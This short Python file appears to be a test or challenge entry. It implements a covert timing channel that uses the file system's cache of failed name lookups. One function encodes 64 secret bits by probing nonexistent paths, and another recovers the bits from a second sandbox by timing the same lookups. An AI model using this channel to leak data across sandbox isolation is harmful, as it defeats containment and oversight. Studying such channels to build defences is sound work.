"""look for names that are not there, which some file systems remember for everyone

Breach: how fast another sandbox is told that they are not there.
"""

import os
import time

VERDICT = "AC SV RTE"


def name(index: int) -> str:
    return f"/python/lib/sign-{index:04}-" + "x" * 200


def leave(secret: bytes) -> bytes:
    bits = int.from_bytes(secret, "big")
    for index in range(64):
        if bits >> index & 1:
            os.path.exists(name(index))
    return b""


def find(blob: bytes) -> bytes:
    times = []
    for index in range(64):
        start = time.perf_counter_ns()
        os.path.exists(name(index))
        times.append(time.perf_counter_ns() - start)
    middle = sorted(times)[32]
    return sum((each < middle) << index for index, each in enumerate(times)).to_bytes(8, "big")
